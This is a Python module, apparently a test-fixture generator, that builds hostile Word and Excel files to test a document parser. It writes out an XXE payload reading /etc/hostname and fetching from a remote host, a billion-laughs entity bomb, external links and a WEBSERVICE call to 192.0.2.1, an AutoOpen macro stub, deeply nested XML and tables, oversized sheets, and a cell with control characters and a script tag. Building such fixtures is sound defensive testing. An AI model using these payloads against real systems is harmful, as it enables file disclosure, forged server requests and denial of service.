"""Hostile Word and Excel files: entities, links to the outside, macros, depth and width without measure."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import docx
import openpyxl

from petik.samples.hostile.texts import FORMULA, SKRIP
from petik.samples.paper.frozen import zip_tetap

_KEPALA = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PAKET = b"http://schemas.openxmlformats.org/package/2006/relationships"
_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TAWA = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
    b"<!ENTITY a%d '%b'>" % (i + 1, b"&a%d;" % i * 10) for i in range(12)
) + b"]>"  # fmt: skip
_LUAR = (
    b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'>"
    b"<!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
)


_BUKU = b"openxmlformats-officedocument."
_MAKRO = {  # content types of the main part, without and with macros
    "docm": (_BUKU + b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"),
    "xlsm": (_BUKU + b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"),
}


def _docx() -> bytes:
    wadah = io.BytesIO()
    dokumen = docx.Document()
    dokumen.add_paragraph("PERJANJIAN KINERJA TAHUN 2021")
    dokumen.save(wadah)
    return wadah.getvalue()


def _xlsx() -> bytes:
    wadah = io.BytesIO()
    buku = openpyxl.Workbook()
    buku.worksheets[0]["A1"] = "PERJANJIAN KINERJA TAHUN 2021"
    buku.save(wadah)
    return wadah.getvalue()


def dengan(paket: bytes, ganti: Mapping[str, bytes]) -> bytes:
    """The package with these parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(paket)) as lama:
        return zip_tetap({**{nama: lama.read(nama) for nama in lama.namelist()}, **ganti})


def bagian_dari(paket: bytes, nama: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(paket)) as arsip:
        return arsip.read(nama)


def _badan(isi: bytes, dtd: bytes = b"") -> bytes:
    """word/document.xml."""
    return b'%b%b<w:document xmlns:w="%b" xmlns:r="%b"><w:body>%b</w:body></w:document>' % (
        _KEPALA, dtd, _WORD, _REL, isi,
    )  # fmt: skip


def _alinea(isi: bytes) -> bytes:
    return b"<w:p><w:r><w:t>%b</w:t></w:r></w:p>" % isi


def _lembar(isi: bytes, dtd: bytes = b"") -> bytes:
    """xl/worksheets/sheet1.xml."""
    return b'%b%b<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (_KEPALA, dtd, _SHEET, isi)


def _sel(isi: bytes) -> bytes:
    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%b</t></is></c></row>' % isi


def _relasi(paket: bytes, nama: str, tambahan: bytes) -> bytes:
    return bagian_dari(paket, nama).replace(b"</Relationships>", tambahan + b"</Relationships>")


def _luar_word(word: bytes) -> bytes:
    """A template, a picture and a link that lie on the net."""
    jenis = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    tambahan = b"".join(
        b'<Relationship Id="rM%d" Type="%b%b" Target="http://192.0.2.1/%b" TargetMode="External"/>' % (i, jenis, n, n)
        for i, n in enumerate((b"attachedTemplate", b"image", b"hyperlink", b"header"))
    )
    gambar = b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:href="rM1"/></v:shape>'
    isi = _alinea(b"PERJANJIAN KINERJA") + gambar + b"</w:pict></w:r></w:p>"
    nama = "word/_rels/document.xml.rels"
    return dengan(word, {nama: _relasi(word, nama, tambahan), "word/document.xml": _badan(isi)})


def _luar_excel(excel: bytes) -> bytes:
    """Cells that ask another workbook and the net."""
    rumus = b'<row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>dari luar</v></c>'
    rumus += b'<c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>jaringan</v></c></row>'
    nama = "xl/_rels/workbook.xml.rels"
    tambahan = b'<Relationship Id="rM1" Type="%b/externalLink" Target="externalLinks/externalLink1.xml"/>' % _REL
    tautan = b'%b<externalLink xmlns="%b" xmlns:r="%b"><externalBook r:id="rId1"/></externalLink>'
    luar = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx"' % _REL
    paket = b'%b<Relationships xmlns="%b">%b TargetMode="External"/></Relationships>' % (_KEPALA, _PAKET, luar)
    return dengan(excel, {
        "xl/worksheets/sheet1.xml": _lembar(rumus),
        nama: _relasi(excel, nama, tambahan),
        "xl/externalLinks/externalLink1.xml": tautan % (_KEPALA, _SHEET, _REL),
        "xl/externalLinks/_rels/externalLink1.xml.rels": paket,
    })  # fmt: skip


def dokumen_word(isi: bytes) -> bytes:
    """A Word document with this body."""
    return dengan(_docx(), {"word/document.xml": _badan(isi)})


def _bermakro(paket: bytes, bagian: str, biasa: bytes, makro: bytes) -> bytes:
    jenis = bagian_dari(paket, "[Content_Types].xml").replace(biasa, makro)
    vba = b'<Override PartName="/%b/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    jenis = jenis.replace(b"</Types>", vba % bagian.encode() + b"</Types>")
    return dengan(paket, {"[Content_Types].xml": jenis, f"{bagian}/vbaProject.bin": b"Sub AutoOpen() Shell"})


def tabel_bersarang(dalam: int) -> bytes:
    """So many tables, each within a cell of the one before."""
    buka, tutup = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    return buka * dalam + _alinea(b"dalam sekali") + tutup * dalam


def _sel_banyak(baris: int, kolom: int) -> bytes:
    """Cells of different numbers, so that they do not look like a bomb."""
    satu = [b"".join(b"<c><v>%d</v></c>" % (b * 7919 + k) for k in range(kolom)) for b in range(baris)]
    return b"".join(b"<row>%b</row>" % isi for isi in satu)


def buat() -> dict[str, bytes]:
    """The hostile Office files by name."""
    word, excel = _docx(), _xlsx()
    badan, lembar = "word/document.xml", "xl/worksheets/sheet1.xml"
    teks = b"".join(_alinea(t.replace("&", "&amp;").replace("<", "&lt;").encode()) for t in (SKRIP, FORMULA))
    jauh = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    gabung = _lembar(jauh).replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    return {
        "xxe.docx": dengan(word, {badan: _badan(_alinea(b"&luar;"), _LUAR)}),
        "tawa.docx": dengan(word, {badan: _badan(_alinea(b"&a12;"), _TAWA)}),
        "xxe.xlsx": dengan(excel, {lembar: _lembar(_sel(b"&luar;"), _LUAR)}),
        "tawa.xlsx": dengan(excel, {lembar: _lembar(_sel(b"&a12;"), _TAWA)}),
        "tautan_luar.docx": _luar_word(word),
        "tautan_luar.xlsx": _luar_excel(excel),
        "makro.docm": _bermakro(word, "word", *_MAKRO["docm"]),
        "makro.xlsm": _bermakro(excel, "xl", *_MAKRO["xlsm"]),
        "tabel_bersarang.docx": dengan(word, {badan: _badan(tabel_bersarang(5_000))}),
        "tabel_dalam_tabel.docx": dengan(word, {badan: _badan(tabel_bersarang(60))}),
        "teks_panjang.docx": dengan(word, {badan: _badan(_alinea(b"kata demi kata ") * 6_000)}),
        "skrip.docx": dengan(word, {badan: _badan(teks)}),
        "xml_bersarang.xlsx": dengan(excel, {lembar: _lembar(b"<a>" * 300_000 + b"</a>" * 300_000)}),
        "sel_jauh.xlsx": dengan(excel, {lembar: _lembar(jauh)}),
        "sel_gabung.xlsx": dengan(excel, {lembar: gabung}),
        "sel_banyak.xlsx": dengan(excel, {lembar: _lembar(_sel_banyak(11_000, 100))}),
        "lembar_banyak.xlsx": dengan(excel, {lembar: _lembar(_sel_banyak(100, 99))}
                                      | {f"xl/worksheets/{i}.xml": b" " * 9_999_999 for i in range(20)}),
        "sel_kendali.xlsx": dengan(excel, {lembar: _lembar(_sel(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
        "bom_bagian.docx": dengan(word, {badan: b" " * (40 << 20)}),
    }  # fmt: skip
